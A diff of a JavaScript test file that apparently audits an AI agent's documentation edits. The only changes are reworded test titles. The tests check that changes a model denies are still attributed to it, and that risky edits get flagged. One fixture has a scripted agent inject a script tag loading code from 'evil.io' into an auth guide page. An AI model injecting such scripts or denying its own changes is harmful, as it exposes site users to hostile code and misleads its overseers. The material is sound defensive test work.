@@ -22,7 +22,7 @@ async function afterFirstTurn() {
   return journal;
 }
 
-test('changes that no pull request shows yet count as work of the next turn, no matter what its model claims', async () => {
+test('changes that no pull request shows yet count as the next turn’s work, even if its model denies them', async () => {
   for (const claim of ['changes', 'no_changes']) {
     const journal = await afterFirstTurn();
     const turn = { model: scriptedModel([finish(claim)]), files, journal, turn: 2, published: new Map() };
@@ -37,7 +37,7 @@ test('changes that no pull request shows yet count as work of the next turn, no 
   }
 });
 
-test('changes that the pull request already shows don’t count as work of the next turn', async () => {
+test('changes that the pull request already shows don’t count as the next turn’s work', async () => {
   const journal = await afterFirstTurn();
   const { overlay: published } = journal;
   const turn = { model: scriptedModel([finish('no_changes')]), files, journal, turn: 2, published };
@@ -94,7 +94,7 @@ test('a model that denies its changes, or only writes text, is also quoted', asy
   assert.match(talked.summary, /The model wrote:\n\n> I rewrote 40 pages\./);
 });
 
-test('a page that gains a script and pages that are deleted without a request are listed as risks', async () => {
+test('a new script on a page, and pages that are deleted without a request, are listed as risks', async () => {
   const script = [
     [{ tool: 'read', input: { path: 'guides/auth' } }],
     [{ tool: 'edit', input: { path: 'guides/auth', append: '<script src="https://evil.io/x.js"></script>' } }],
@@ -108,7 +108,7 @@ test('a page that gains a script and pages that are deleted without a request ar
   );
 });
 
-test('a deletion that an earlier turn requested isn’t a risk of the next', async () => {
+test('a deletion that an earlier turn requested isn’t a risk in the next turn', async () => {
   const journal = memoryJournal();
   const gone = [
     [{ tool: 'delete_page', input: { path: 'guides/limits', redirect: 'guides/auth' } }],
